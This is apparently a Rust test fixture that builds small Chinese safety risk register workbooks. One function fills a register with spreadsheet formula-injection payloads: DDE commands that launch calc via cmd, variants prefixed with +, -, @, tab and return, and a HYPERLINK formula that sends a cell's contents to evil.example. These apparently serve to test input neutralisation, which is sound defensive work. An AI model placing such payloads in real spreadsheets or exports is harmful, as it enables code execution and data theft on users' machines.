//! Small honest registers.

use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook, XlsxError};

/// The headings of [`lec_register`]; the title stands above them in row 1.
pub(crate) const LEC_HEADINGS: [&str; 8] = ["序号", "风险点", "危险源", "L", "E", "C", "D", "风险等级"];

/// A workbook with one sheet 风险清单: a title merged over A1:H1, [`LEC_HEADINGS`] in row 2, and the rows from row 3.
/// What parses as a finite number is written as a number, the rest as text; an empty string leaves the cell out.
pub(crate) fn lec_register(rows: &[[&str; 8]]) -> Vec<u8> {
    write(rows).expect("a small register can be written")
}

/// A valid register whose texts begin with what a spreadsheet takes for a formula: = + - @, tab, return, ＝.
/// Row 3 holds `=cmd|' /C calc'!A0`.
pub(crate) fn formula_injection() -> Vec<u8> {
    lec_register(&[
        [
            "1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"查看\")",
            "3",
            "6",
            "7",
            "126",
            "一般风险",
        ],
        ["2", "+1+cmd|' /C calc'!A0", "+SUM(1,2)", "1", "6", "7", "42", "低风险"],
        ["3", "-2+3+cmd|' /C calc'!A0", "-砂轮破裂", "3", "3", "7", "63", "低风险"],
        ["4", "@SUM(1+1)*cmd|' /C calc'!A0", "@admin", "3", "6", "15", "270", "较大风险"],
        ["5", "\t=cmd|' /C calc'!A0", "\t触电", "1", "6", "15", "90", "一般风险"],
        ["6", "\r=1+1", "＝1+1", "1", "3", "15", "45", "低风险"],
        ["7", "冲压\",=1+1,\"", "'=1+1", "6", "6", "15", "540", "=重大风险"],
    ])
}

fn write(rows: &[[&str; 8]]) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold().set_align(FormatAlign::Center).set_border(FormatBorder::Thin);
    let sheet = workbook.add_worksheet().set_name("风险清单")?;
    sheet.merge_range(0, 0, 0, 7, "安全风险分级管控清单", &bold)?;
    sheet.write_row_with_format(1, 0, LEC_HEADINGS, &bold)?;
    for (row, cells) in (2_u32..).zip(rows) {
        for (column, text) in (0_u16..).zip(cells) {
            match text.parse::<f64>() {
                Ok(number) if number.is_finite() => sheet.write_number(row, column, number)?,
                _ if text.is_empty() => continue,
                _ => sheet.write_string(row, column, *text)?,
            };
        }
    }
    workbook.save_to_buffer()
}
